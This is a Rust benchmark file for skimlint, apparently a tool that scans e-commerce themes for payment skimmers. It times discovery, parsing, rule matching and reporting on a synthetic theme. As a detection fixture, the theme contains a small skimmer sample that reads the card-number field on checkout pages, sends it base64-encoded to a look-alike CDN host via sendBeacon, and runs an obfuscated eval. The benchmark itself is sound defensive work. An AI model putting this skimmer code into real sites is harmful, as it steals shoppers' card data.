//! Per-stage figures on a small synthetic theme: discovery, unit extraction, parse, fold+match,
//! report. `cargo bench --bench stages`; `cargo bench --no-run` only compiles it.

use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use criterion::{criterion_group, criterion_main, Criterion};

use skimlint::engine;
use skimlint::fold::{Budget, Limits};
use skimlint::lang::Lang;
use skimlint::rules::load_builtin_and;
use skimlint::scan::{scan_paths, ScanOptions};
use skimlint::units::{self, classify};

/// A small theme: clean JavaScript and PHP, a template with scripts, and one skimmer.
fn synthetic_theme() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let js = "define(['jquery'], function ($) {\n  'use strict';\n  return function (config, el) {\n    $(el).on('click', function () { $.ajax({url: config.url, data: {q: $(el).val()}}); });\n  };\n});\n";
    let php = "<?php\nnamespace Acme\\Pay\\Model;\nclass Gateway {\n  public function capture($order) {\n    $amount = $order->getGrandTotal();\n    return $this->client->post('/capture', ['amount' => $amount]);\n  }\n}\n";
    let tpl = "<div class=\"checkout\">{{ title }}</div>\n<script>require(['Acme_Pay/js/view'], function (v) { v.init(); });</script>\n";
    let bad = "if(location.href.indexOf('checkout')>-1){var d=document.querySelector('[name=\"payment[cc_number]\"]').value;navigator.sendBeacon('https://cdn-jquery.top/c',btoa(d));}\nwindow['ev'+'al'](atob('YWxlcnQoMSk='));\n";
    for i in 0..20 {
        let sub = dir.path().join(format!("app/code/Acme/M{i}"));
        std::fs::create_dir_all(&sub).unwrap();
        std::fs::write(sub.join("view.js"), js.repeat(10)).unwrap();
        std::fs::write(sub.join("Gateway.php"), php).unwrap();
        std::fs::write(sub.join("form.phtml"), tpl.repeat(5)).unwrap();
    }
    std::fs::write(dir.path().join("app/code/Acme/M0/skim.js"), bad).unwrap();
    dir
}

fn stages(c: &mut Criterion) {
    let rules = load_builtin_and(&[]).unwrap();
    let theme = synthetic_theme();
    let root: PathBuf = theme.path().to_path_buf();
    let js_path = root.join("app/code/Acme/M0/view.js");
    let js = Arc::new(std::fs::read(&js_path).unwrap());
    let skim_path = root.join("app/code/Acme/M0/skim.js");
    let skim = Arc::new(std::fs::read(&skim_path).unwrap());

    c.bench_function("discovery (61 files)", |b| {
        b.iter(|| skimlint::discover::discover(std::slice::from_ref(&root)))
    });
    c.bench_function("unit extraction (phtml)", |b| {
        let p = root.join("app/code/Acme/M0/form.phtml");
        let bytes = Arc::new(std::fs::read(&p).unwrap());
        b.iter(|| units::extract(classify::classify(&p, &bytes), &bytes))
    });
    c.bench_function("parse (js, 10 modules)", |b| {
        b.iter(|| {
            skimlint::parse::parse(Lang::Javascript, &js, None, Duration::from_secs(5)).unwrap()
        })
    });
    c.bench_function("fold+match (clean js)", |b| {
        let u = units::extract(classify::classify(&js_path, &js), &js);
        b.iter(|| engine::scan_file(&u, &rules, &Budget::new(Limits::default())))
    });
    c.bench_function("fold+match (skimmer)", |b| {
        let u = units::extract(classify::classify(&skim_path, &skim), &skim);
        b.iter(|| engine::scan_file(&u, &rules, &Budget::new(Limits::default())))
    });
    let options = ScanOptions {
        threads: 1,
        ..Default::default()
    };
    let result = scan_paths(std::slice::from_ref(&root), &rules, &options);
    assert!(!result.findings.is_empty());
    c.bench_function("report (json)", |b| {
        b.iter(|| {
            let mut out = Vec::new();
            skimlint::report::json::write(&mut out, &result).unwrap();
            out
        })
    });
    c.bench_function("whole scan (synthetic theme, 1 thread)", |b| {
        b.iter(|| scan_paths(std::slice::from_ref(&root), &rules, &options))
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(10).warm_up_time(Duration::from_millis(300)).measurement_time(Duration::from_secs(2));
    targets = stages
}
criterion_main!(benches);
